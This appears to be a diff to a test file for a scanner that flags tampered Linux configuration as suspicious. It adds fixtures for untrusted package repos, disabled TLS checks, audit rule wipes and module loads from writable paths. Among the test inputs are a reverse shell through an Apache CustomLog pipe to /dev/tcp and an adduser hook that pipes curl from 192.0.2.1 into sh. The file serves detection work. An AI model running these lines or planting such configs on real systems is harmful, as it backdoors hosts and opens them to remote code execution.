@@ -365,7 +365,48 @@ OPTIONS = {
     "/etc/pam.d/login": "auth optional pam_exec.so quiet expose_authtok /usr/bin/ls\n",
     "/etc/tmpfiles.d/x.conf": "f^ /root/.ssh/authorized_keys 0600 root :root - ssh.authorized_keys.root\n",
     "/etc/ssh/sshd_config": "Subsystem sftp /usr/lib/openssh/sftp-server.x\n",
+    "/etc/sudo.conf": "Plugin sudoers_policy sudoers.so\nPlugin x_policy x.so\n",
+    "/etc/doas.conf": "permit persist :wheel\npermit keepenv nopass carol\n",
+    "/etc/nsswitch.conf": "passwd: files systemd x\nhosts: files mdns4_minimal [NOTFOUND=return] dns\n",
+    "/etc/apt/sources.list.d/x.list": "deb [arch=amd64 trusted=yes] http://192.0.2.1/ x main\n",
+    "/etc/apt/sources.list.d/x.sources": "Types: deb\nURIs: http://192.0.2.1/\nTrusted: yes\n",
+    "/etc/apt/apt.conf.d/99x": 'APT::Get::AllowUnauthenticated "true";\n',
+    "/etc/apt/apt.conf.d/98x": 'Acquire::https::Verify-Peer "false";\n',
+    "/etc/yum.repos.d/x.repo": "[x]\nbaseurl=http://192.0.2.1/\nrepo_gpgcheck=0\ngpgcheck=0\n",
+    "/etc/dnf/dnf.conf": "[main]\ngpgcheck=1\nsslverify=false\n",
+    "/usr/local/share/ca-certificates/x.crt": "-----BEGIN CERTIFICATE-----\nTUlJ\n",
+    "/etc/audit/rules.d/x.rules": "-D\n-a exit,never -F path=/x\n-a never,task\n",
+    "/etc/nginx/modules-enabled/x.conf": "load_module /opt/x.so;\nload_module modules/ngx_x.so;\n",
+    "/etc/apache2/mods-enabled/x.load": "LoadModule a_module /usr/lib/apache2/a.so\nLoadModule x /opt/x.so\n",
+    "/etc/httpd/conf.d/x.conf": 'ErrorLog "|/usr/sbin/rotatelogs /x 1"\nCustomLog "|/opt/x" common\n',
+    "/etc/apache2/sites-enabled/x.conf": "AddHandler application/x-httpd-php .jpg\n",
+    "/etc/php/8.2/fpm/php.ini": "; auto_append_file = /x\nauto_prepend_file =\nauto_append_file = /x.php\n",
+    "/etc/php/8.2/fpm/pool.d/www.conf": "php_admin_value[auto_prepend_file] = /x.php\n",
+    "/etc/php.ini": "extension = curl\nallow_url_include = On\n",
 }
+
+
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("/etc/sudo.conf", "Plugin sudoers_policy /tmp/x.so"),
+        ("/etc/nginx/nginx.conf", "load_module /var/www/x.so;"),
+        ("/etc/nginx/nginx.conf", "load_module /usr/lib/nginx/.x.so;"),
+        ("/etc/httpd/conf.d/x.conf", "LoadModule x /usr/lib/../../tmp/.x.so"),
+        ("/etc/httpd/conf.d/x.conf", 'CustomLog "|/bin/bash -c \'/bin/sh >& /dev/tcp/192.0.2.1/4\'" common'),
+        ("/etc/php.d/x.ini", "zend_extension=/dev/shm/x.so"),
+    ],
+)
+def test_what_is_loaded_from_where_anybody_may_write(tmp_path: Path, path: str, line: str) -> None:
+    put(clean(tmp_path), path, line + "\n")
+    (item,) = look(tmp_path).of(Verdict.SUSPICIOUS)
+    assert item.name == f"{path}:1"
+
+
+def test_a_hook_of_adduser_runs_as_root(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/usr/local/sbin/adduser.local", "#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n")
+    (item,) = look(tmp_path).of(Verdict.SUSPICIOUS)
+    assert item.name.startswith("/usr/local/sbin/adduser.local")
 
 
 @pytest.mark.parametrize("path", OPTIONS)
